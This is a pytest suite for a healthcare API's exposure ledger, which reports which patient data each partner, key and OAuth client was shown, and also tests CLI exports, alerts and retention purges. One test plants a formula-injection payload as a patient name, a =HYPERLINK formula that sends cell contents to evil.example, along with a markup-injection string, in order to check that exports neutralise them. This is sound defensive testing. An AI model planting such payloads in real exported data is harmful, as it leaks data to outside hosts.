"""The exposure report tells exactly what partners were shown: the tests read through the API,
note every id the responses carried and with which fields, and compare with the report."""

import csv
import io
import json
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import timedelta

import pytest
from sqlalchemy import delete, event, func, insert, select, update
from sqlalchemy.orm import Session

from api.data.models import (
    AccessRecord,
    Appointment,
    Disclosure,
    KeyMode,
    OAuthClient,
    Partner,
    PartnerKey,
    Patient,
    PatientDisclosure,
)
from api.ledger import partitions, retention
from api.ledger.access import FieldGroup
from api.ledger.exposure import alerts, partner_exposure, patient_readers
from api.ledger.partitions import PARTITION_NAME
from api.operators import accounts as operators
from api.scopes import Scope
from api.timeutil import utcnow
from tests.identity.test_client_credentials import call, get_token
from tests.oauth_client import SigningKey, register
from tests.world import window_args

READ_PATIENT = "query P($id: ID!) { node(id: $id) { ... on Patient { firstName } } }"

PAGE = """query Day($p: ID!, $from: DateTime!, $to: DateTime!, $n: Int!) {
  appointments(practiceId: $p, from: $from, to: $to, first: $n) {
    edges { node { id startsAt reason patient { id firstName phone } } } } }"""
IDS_ONLY = PAGE.replace("reason patient { id firstName phone }", "patient { id }")
TIMES_ONLY = PAGE.replace("reason patient { id firstName phone }", "")
NODE = "query One($id: ID!) { node(id: $id) { id ... on Patient { email } } }"
IDENTITY, CONTACT = ("firstName", "lastName", "gender", "birthDate"), ("phone", "email")


@dataclass
class Shown:
    """What responses carried, per patient public id, worked out from their JSON alone."""

    owners: dict[str, str]  # appointment public id -> its patient's, for appointments read without their patient
    groups: dict[str, int] = field(default_factory=lambda: defaultdict(int))
    appointments: dict[str, set[str]] = field(default_factory=lambda: defaultdict(set))
    requests: dict[str, int] = field(default_factory=lambda: defaultdict(int))

    def add(self, data: object) -> None:
        patients: set[str] = set()
        for record in _records(data):
            if record["id"].startswith("apt_"):
                patient = self.owners[record["id"]]
                self.appointments[patient].add(record["id"])
                groups = FieldGroup.APPOINTMENT | (FieldGroup.REASON if record.get("reason") else 0)
            else:
                patient = record["id"]
                groups = FieldGroup.PATIENT
                groups |= FieldGroup.IDENTITY if any(record.get(f) for f in IDENTITY) else 0
                groups |= FieldGroup.CONTACT if any(record.get(f) for f in CONTACT) else 0
            self.groups[patient] |= groups
            patients.add(patient)
        for patient in patients:
            self.requests[patient] += 1


def _records(value: object):
    if isinstance(value, dict):
        if str(value.get("id", "")).startswith(("apt_", "pat_")):
            yield value
        for item in value.values():
            yield from _records(item)
    elif isinstance(value, list):
        for item in value:
            yield from _records(item)


@pytest.fixture
def owners(sync_engine, world) -> dict[str, str]:
    with Session(sync_engine) as session:
        rows = session.execute(
            select(Appointment.public_id, Patient.public_id).join(Patient, Patient.id == Appointment.patient_id)
        )
        return {appointment: patient for appointment, patient in rows}


@pytest.fixture
def second_key(sync_engine, world) -> tuple[str, str]:
    """Another key of `full`: (prefix, token)."""
    with Session(sync_engine) as session, session.begin():
        key = operators.issue_partner_key(session, "full", "second", mode=KeyMode.OPEN)
    return key.prefix, key.token


async def read(api, token, query, **variables):
    response = await api.query(token, query, variables)
    assert response.status == 200, response.body
    return response.data


def report(sync_engine, partner, since, key=None, with_names=False):
    with Session(sync_engine) as session:
        return partner_exposure(session, partner, since, utcnow() + timedelta(seconds=1), key, with_names)


@pytest.fixture
async def readings(api, world, owners, second_key):
    """Several partners, keys and scopes reading practices A and B; returns what each was shown."""
    since = utcnow() - timedelta(seconds=1)
    page = {"p": world.practice_id("A"), **window_args()}
    full, key_shown, no_contact, other = Shown(owners), Shown(owners), Shown(owners), Shown(owners)
    full.add(await read(api, world.keys["full"], PAGE, **page, n=2))
    full.add(await read(api, world.keys["full"], IDS_ONLY, **page, n=5))
    full.add(await read(api, world.keys["full"], NODE, id=world.patients["A"][2]))
    key_shown.add(await read(api, second_key[1], TIMES_ONLY, **page, n=3))
    no_contact.add(await read(api, world.keys["no-contact"], PAGE, **page, n=4))
    other.add(await read(api, world.keys["other"], PAGE, p=world.practice_id("B"), **window_args(), n=6))
    await api.query(world.keys["other"], PAGE, {**page, "n": 6})  # refused (NOT_FOUND): nothing shown
    both = Shown(owners)
    for shown in (full, key_shown):
        for patient, groups in shown.groups.items():
            both.groups[patient] |= groups
            both.appointments[patient] |= shown.appointments.get(patient, set())
            both.requests[patient] += shown.requests[patient]
    return since, {"full": both, "first key": full, "second key": key_shown, "no-contact": no_contact, "other": other}


def assert_report_matches(found, shown: Shown) -> None:
    assert {p.patient_id: FieldGroup(p.field_groups) for p in found.patients} == shown.groups
    assert {p.patient_id: p.appointments for p in found.patients} == {
        k: len(shown.appointments.get(k, ())) for k in shown.groups
    }
    assert {p.patient_id: p.requests for p in found.patients} == shown.requests
    (practice,) = found.practices
    assert practice.patients == len(shown.groups)
    assert practice.appointments == sum(len(a) for a in shown.appointments.values())
    assert practice.with_groups["identity"] == sum(1 for g in shown.groups.values() if g & FieldGroup.IDENTITY)
    assert practice.with_groups["contact"] == sum(1 for g in shown.groups.values() if g & FieldGroup.CONTACT)
    union = 0
    for groups in shown.groups.values():
        union |= groups
    assert practice.field_groups == union


async def test_the_report_is_what_each_partner_was_shown(readings, sync_engine, world):
    since, shown = readings
    for partner in ("full", "no-contact", "other"):
        found = report(sync_engine, partner, since)
        assert_report_matches(found, shown[partner])
    assert report(sync_engine, "other", since).practices[0].practice == "B"
    assert all(not p.field_groups & FieldGroup.CONTACT for p in report(sync_engine, "no-contact", since).patients)
    assert report(sync_engine, "reader", since).patients == []


async def test_the_report_of_one_key_is_what_that_key_was_shown(readings, sync_engine, second_key):
    since, shown = readings
    found = report(sync_engine, "full", since, key=second_key[0])
    assert_report_matches(found, shown["second key"])
    # Read without the patient field, the appointments still concern their patients.
    assert {p.field_groups for p in found.patients} == {FieldGroup.APPOINTMENT}
    assert found.practices[0].with_groups["reason"] == 0


async def test_the_report_counts_only_the_period_asked(readings, sync_engine):
    since, _ = readings
    with Session(sync_engine) as session:
        before = partner_exposure(session, "full", since - timedelta(days=1), since)
        after = partner_exposure(session, "full", utcnow() + timedelta(seconds=1), utcnow() + timedelta(days=1))
    assert before.practices == before.patients == after.practices == after.patients == []


async def test_a_patient_report_names_every_partner_key_that_was_shown_them(readings, sync_engine, world, second_key):
    _, shown = readings
    patient = world.patients["A"][0]
    with Session(sync_engine) as session:
        found = patient_readers(session, patient)
        full_prefix = session.scalar(select(Partner).where(Partner.name == "full")).keys[0].prefix
    readers = {(r.partner, r.key_prefix): FieldGroup(r.field_groups) for r in found.readers}
    assert readers == {
        ("full", full_prefix): shown["first key"].groups[patient],
        ("full", second_key[0]): shown["second key"].groups[patient],
        ("no-contact", world.keys["no-contact"].split("_")[1]): shown["no-contact"].groups[patient],
    }
    assert found.practice == "A" and all(r.first_disclosed <= r.last_disclosed for r in found.readers)
    assert sum(r.requests for r in found.readers) == sum(shown[p].requests[patient] for p in ("full", "no-contact"))
    with Session(sync_engine) as session:
        assert patient_readers(session, world.patients["C"][0]).readers == []


async def test_a_patient_report_tells_a_partners_oauth_clients_apart(api, world, sync_engine):
    # An access token's row named no key: two clients of one partner were one anonymous reader.
    patient = world.patients["A"][0]
    signing = {kid: SigningKey(kid) for kid in ("k1", "k2")}
    clients = {kid: register(sync_engine, "full", key) for kid, key in signing.items()}
    for kid, client in clients.items():
        response = await call(api, await get_token(api, signing[kid], client), query=READ_PATIENT, id=patient)
        assert response.json()["data"]["node"]["firstName"]
    with Session(sync_engine) as session:
        readers = patient_readers(session, patient).readers
        pairs = select(OAuthClient.client_id, PartnerKey.prefix).join(PartnerKey, PartnerKey.id == OAuthClient.key_id)
        credentials = {client: prefix for client, prefix in session.execute(pairs)}
    assert sorted((r.client_id, r.key_prefix, r.requests) for r in readers) == sorted(
        (client, credentials[client], 1) for client in clients.values()
    )


# --- The command line (the `cli` fixture: tests/conftest.py) ------------------------------------


async def test_exposure_as_csv_lists_each_patient_without_names(readings, cli, world):
    since, shown = readings
    result = cli("exposure", "--partner", "full", "--since", since.isoformat(), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert {r["patient_id"]: r["field_groups"] for r in rows} == {
        p: "+".join(g.name.lower() for g in FieldGroup if groups & g) for p, groups in shown["full"].groups.items()
    }
    assert {r["practice_id"] for r in rows} == {world.practice_id("A")}
    assert "first_name" not in rows[0] and "Prénom" not in result.output and "Nom" not in result.output


async def test_a_patient_deleted_since_is_null_in_json_and_said_so_in_text(readings, cli, world, sync_engine):
    since, shown = readings
    gone = next(iter(shown["full"].groups))
    with Session(sync_engine) as session, session.begin():
        patient = session.scalar(select(Patient).where(Patient.public_id == gone))
        session.execute(delete(Appointment).where(Appointment.patient_id == patient.id))
        session.delete(patient)
    flags = ("exposure", "--partner", "full", "--since", since.isoformat())
    patients = json.loads(cli(*flags, "--format", "json").output)["patients"]
    assert len(patients) == len(shown["full"].groups)  # still counted
    assert [p["patient_id"] for p in patients].count(None) == 1 and gone not in {p["patient_id"] for p in patients}
    rows = list(csv.DictReader(io.StringIO(cli(*flags, "--format", "csv").output)))
    assert [r["patient_id"] for r in rows].count("(deleted)") == 1


async def test_names_a_partner_wrote_are_shown_as_written_never_run(api, world, sync_engine, cli):
    """Patients' names are the text of partners' bookings: a formula ran in the spreadsheet the CSV
    opened in, and rich markup (`[/]`) failed the table (an outside review)."""
    hostile = {"first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "last_name": "[/] [link=http://x]y"}
    with Session(sync_engine) as session, session.begin():
        session.execute(update(Patient).values(**hostile))
    since = utcnow() - timedelta(seconds=1)
    await read(api, world.keys["full"], PAGE, p=world.practice_id("A"), **window_args(), n=2)
    flags = ["exposure", "--partner", "full", "--since", since.isoformat(), "--with-names"]
    as_csv = cli(*flags, "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert rows and {r["first_name"] for r in rows} == {"'" + hostile["first_name"]}
    as_table = cli(*flags)
    assert as_table.exit_code == 0 and "[/] [link=http://x]y" in as_table.output, as_table.output


async def test_exposure_with_names_adds_them_for_notification(readings, cli, world):
    since, _ = readings
    result = cli(
        "exposure", "--partner", "no-contact", "--since", since.isoformat(), "--format", "json", "--with-names"
    )
    assert result.exit_code == 0, result.output
    body = json.loads(result.output)
    assert body["partner"] == "no-contact" and body["practices"][0]["field_groups"] == [
        "appointment",
        "patient",
        "identity",
    ]
    # One count per scope that has a ledger group of its own (api.scopes) and one for reads through
    # the history permission, and nothing shown without contact.
    counts = {k: v for k, v in body["practices"][0].items() if k.startswith("with_")}
    assert counts.keys() == {f"with_{s.group.name}" for s in Scope if s.group} | {"with_history"}
    assert counts["with_contact"] == 0 and counts["with_history"] == 0
    assert {(p["first_name"], p["last_name"]) for p in body["patients"]} <= {
        (f"PrénomA{i}", f"NomA{i}") for i in range(3)
    }
    table = cli("exposure", "--partner", "no-contact", "--since", since.isoformat())
    assert table.exit_code == 0 and world.patients["A"][0] in table.output and "PrénomA" not in table.output


async def test_exposure_of_a_patient_as_json_and_table(readings, cli, world):
    patient = world.patients["A"][1]
    body = json.loads(cli("exposure", "--patient", patient, "--format", "json").output)
    assert body["patient_id"] == patient and {r["partner"] for r in body["readers"]} == {"full", "no-contact"}
    assert all(isinstance(r["field_groups"], list) for r in body["readers"])
    table = cli("exposure", "--patient", patient)
    assert table.exit_code == 0 and "shown to 2 partner(s)" in table.output


def test_exposure_refuses_unclear_requests(cli, world):
    assert cli("exposure").exit_code == 2
    assert cli("exposure", "--partner", "full", "--patient", world.patients["A"][0]).exit_code == 2
    assert cli("exposure", "--partner", "full", "--since", "2026-11-01T00:00:00").exit_code == 2  # no zone
    unknown = cli("exposure", "--partner", "nobody")
    assert unknown.exit_code == 1 and "no partner named" in unknown.output
    assert cli("exposure", "--partner", "full", "--key", "000000000000").exit_code == 1
    assert cli("exposure", "--patient", "pat_" + "a" * 26).exit_code == 1


# --- Alerts --------------------------------------------------------------------------------------


async def test_alerts_show_their_evidence(make_api, world, cli):
    api = make_api(extraction_floor=1, extraction_activity_factor=0.0)
    response = await api.query(world.keys["full"], PAGE, {"p": world.practice_id("A"), **window_args(), "n": 6})
    assert response.codes == {"EXTRACTION_LIMIT_EXCEEDED"}
    result = cli("alerts", "--partner", "full", "--format", "json")
    assert result.exit_code == 0, result.output
    alert, quarantine = json.loads(result.output)
    assert (alert["kind"], quarantine["kind"]) == ("refusal", "quarantine")
    assert alert["partner"] == "full" and alert["key_prefix"] == world.keys["full"].split("_")[1]
    assert alert["practice_id"] == world.practice_id("A") and alert["practice"] == "A"
    assert (alert["patients_in_window"], alert["patients_refused"], alert["threshold"], alert["window_hours"]) == (
        0,
        3,
        1,
        24,
    )
    assert (alert["delivery"], alert["delivery_attempts"]) == ("pending", 0)  # no webhook configured
    assert cli("alerts", "--partner", "other", "--format", "json").output.strip() == "[]"
    later = (utcnow() + timedelta(minutes=1)).isoformat()
    assert cli("alerts", "--since", later, "--format", "csv").output.splitlines()[1:] == []
    assert "Extraction alerts" in cli("alerts").output


# --- Retention -----------------------------------------------------------------------------------


def _old_request(session, world, days_ago: int) -> None:
    at = utcnow() - timedelta(days=days_ago)
    partner = session.scalar(select(Partner).where(Partner.name == "full"))
    patient = session.scalar(select(Patient).where(Patient.public_id == world.patients["A"][0]))
    access_id = session.execute(
        insert(AccessRecord)
        .values(
            request_id=f"old{days_ago:05d}{id(at):016x}"[:32],
            at=at,
            partner_id=partner.id,
            outcome="served",
            http_status=200,
            duration_ms=1.0,
        )
        .returning(AccessRecord.id)
    ).scalar_one()
    session.execute(
        insert(Disclosure),
        [
            {
                "access_id": access_id,
                "practice_id": patient.practice_id,
                "patient_id": patient.id,
                "appointment_id": None,
                "field_groups": 4,
                "at": at,
                "partner_id": partner.id,
            },
            {
                "access_id": access_id,
                "practice_id": patient.practice_id,
                "patient_id": None,
                "appointment_id": None,
                "field_groups": 1,
                "at": at,
                "partner_id": partner.id,
            },
        ],
    )


async def test_purge_deletes_the_ledger_past_retention_and_windows_past_the_extraction_window(
    api, world, sync_engine, cli
):
    await read(api, world.keys["full"], PAGE, p=world.practice_id("A"), **window_args(), n=2)  # today: kept
    with Session(sync_engine) as session, session.begin():
        for days in (401, 402, 500, 399):
            _old_request(session, world, days)
        session.execute(
            update(PatientDisclosure).values(
                day_first_at=utcnow() - timedelta(days=31), month_first_at=utcnow() - timedelta(days=31)
            )
        )
        with_window = session.scalar(select(func.count()).select_from(PatientDisclosure))
    assert with_window == 2
    now = utcnow()
    # PostgreSQL keeps whole months (api/ledger/partitions.py): what is past retention but in the month
    # of the cutoff stays until that month is wholly past.
    cutoff = now - timedelta(days=400)
    if sync_engine.dialect.name == "postgresql":
        cutoff = partitions.first_kept_month(cutoff)
    past = sum(now - timedelta(days=days) < cutoff for days in (401, 402, 500))
    with Session(sync_engine) as session:
        purged = retention.purge(session, timedelta(days=400), timedelta(days=30), now=now, batch_size=2)
    assert (purged.access_records, purged.disclosures, purged.patient_disclosures) == (past, 2 * past, 2)
    with Session(sync_engine) as session:
        assert session.scalar(select(func.count()).select_from(AccessRecord)) == 5 - past
        assert session.scalar(select(func.count()).select_from(PatientDisclosure)) == 0
        # 399 days ago (and those kept in the cutoff's month), today's page: two appointments, each row naming its
        # patient as well
        assert session.scalar(select(func.count()).select_from(Disclosure)) == 2 * (4 - past) + 2
    result = cli("ledger", "purge", "--older-than", "1")
    assert result.exit_code == 0, result.output
    assert f"deleted {4 - past} access record(s) and their {2 * (4 - past)} disclosure row(s)" in result.output
    assert "deleted 0 patient window row(s) past the 30-day extraction window" in result.output
    assert cli("ledger", "purge", "--older-than", "0").exit_code == 2
    assert cli("ledger", "purge", "--older-than", "1000000").exit_code == 2  # an OverflowError's traceback


async def test_purge_keeps_a_patient_read_again_today_whose_30_days_began_long_ago(api, world, sync_engine):
    """Its row still counts in today's window: deleting it gave an extractor reading just under the
    daily limit one more patient a day (an outside review)."""
    await read(api, world.keys["full"], PAGE, p=world.practice_id("A"), **window_args(), n=2)
    now = utcnow()
    long_ago = now - timedelta(days=30, minutes=5)
    with Session(sync_engine) as session, session.begin():
        rows = session.execute(select(PatientDisclosure.patient_id)).scalars().all()
        session.execute(
            update(PatientDisclosure)
            .where(PatientDisclosure.patient_id == rows[0])
            .values(day_first_at=now - timedelta(hours=1), month_first_at=long_ago)
        )
        session.execute(
            update(PatientDisclosure)
            .where(PatientDisclosure.patient_id == rows[1])
            .values(day_first_at=long_ago, month_first_at=long_ago)
        )
    with Session(sync_engine) as session:
        purged = retention.purge(session, timedelta(days=400), timedelta(days=30), now=now)
    assert purged.patient_disclosures == 1
    with Session(sync_engine) as session:
        assert session.scalars(select(PatientDisclosure.patient_id)).all() == [rows[0]]


# --- Indexes ------------------------------------------------------------------------------------

LEDGER = {"access_records", "disclosures", "patient_disclosures", "extraction_alerts"}


def _table(relation: str | None) -> str | None:
    """The table a scanned relation belongs to: a monthly partition's is its parent."""
    partition = PARTITION_NAME.match(relation or "")
    return partition[1] if partition else relation


def _catalog_or_ddl(statement: str) -> bool:
    """The purge's look at the partitions (pg_class, pg_inherits) and its CREATE or DROP of them."""
    return "pg_class" in statement or statement.lstrip().upper().startswith(("CREATE", "DROP", "ANALYZE"))


def _nodes(plan: dict):
    yield plan
    for child in plan.get("Plans", []):
        yield from _nodes(child)


@pytest.mark.postgres
@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
async def test_reports_and_purge_read_the_ledger_only_through_its_indexes(readings, sync_engine, world, second_key):
    """With sequential scans priced out, every read of a ledger table is an index lookup with a
    condition: the queries have an index to use, whatever the planner picks on a small table."""
    since, _ = readings
    statements = []

    def capture(_connection, _cursor, statement, parameters, _context, _many):
        statements.append((statement, parameters))

    event.listen(sync_engine, "before_cursor_execute", capture)
    try:
        with Session(sync_engine) as session:
            partner_exposure(session, "full", since, utcnow(), second_key[0], with_names=True)
            patient_readers(session, world.patients["A"][0], since, utcnow())
            alerts(session, "full", since)
            retention.purge(session, timedelta(days=400), timedelta(hours=24))
    finally:
        event.remove(sync_engine, "before_cursor_execute", capture)
    explained = 0
    with sync_engine.connect() as connection:
        connection.exec_driver_sql("SET enable_seqscan = off")
        for statement, parameters in statements:
            if not any(table in statement for table in LEDGER) or _catalog_or_ddl(statement):
                continue
            (plan,) = connection.exec_driver_sql("EXPLAIN (FORMAT JSON) " + statement, parameters).scalar_one()
            scans = [
                n for n in _nodes(plan["Plan"]) if _table(n.get("Relation Name")) in LEDGER and "Scan" in n["Node Type"]
            ]
            assert scans and all(
                n["Node Type"] != "Seq Scan" and ("Index Cond" in n or "Recheck Cond" in n) for n in scans
            ), (statement, plan)
            explained += 1
    assert explained >= 6


async def test_the_report_counts_each_day_s_patients(readings, sync_engine):
    since, shown = readings
    found = report(sync_engine, "full", since)
    (today,) = found.days  # every reading of the fixture was today
    assert today.day == utcnow().date()
    assert today.patients == len(shown["full"].groups) == len(found.patients)
    assert today.appointments == sum(p.appointments for p in found.practices)


async def test_exposure_as_html_is_one_page_with_charts_and_names_only_when_asked(readings, cli, world, tmp_path):
    since, shown = readings
    page = tmp_path / "full.html"
    result = cli("exposure", "--partner", "full", "--since", since.isoformat(), "--format", "html", "--output", page)
    assert result.exit_code == 0, result.output
    html = page.read_text()
    assert html.startswith("<!DOCTYPE html>") and 'http-equiv="Content-Security-Policy"' in html
    assert "://" not in html and "<script" not in html and "src=" not in html  # nothing to fetch, nothing to run
    assert 'id="patients-per-day"' in html and 'id="patients-per-practice"' in html
    assert all(patient in html for patient in shown["full"].groups) and "PrénomA" not in html
    named = cli("exposure", "--partner", "full", "--since", since.isoformat(), "--format", "html", "--with-names")
    assert named.exit_code == 0 and "PrénomA" in named.output
    refused = cli("exposure", "--patient", world.patients["A"][0], "--format", "html")
    assert refused.exit_code != 0 and "--partner" in refused.output
    listed = cli("alerts", "--format", "html")  # offered by neither its help nor its parser
    assert listed.exit_code != 0 and "'html' is not one of" in listed.output
    assert "html" not in cli("alerts", "--help").output
